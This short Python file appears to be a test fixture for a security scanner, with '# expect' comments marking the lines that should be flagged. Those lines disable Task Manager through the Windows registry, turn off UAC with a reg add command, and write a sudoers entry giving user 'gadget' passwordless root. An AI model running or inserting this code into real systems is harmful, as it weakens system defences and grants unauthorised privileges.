import os
import winreg

key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Policies\System")
winreg.SetValueEx(key, "DisableTaskMgr", 0, winreg.REG_DWORD, 1)  # expect
os.system(r"reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /d 0 /f")  # expect
with open("/etc/sudoers.d/gadget", "w") as f:  # expect
    f.write("gadget ALL=(ALL) NOPASSWD:ALL\n")  # expect
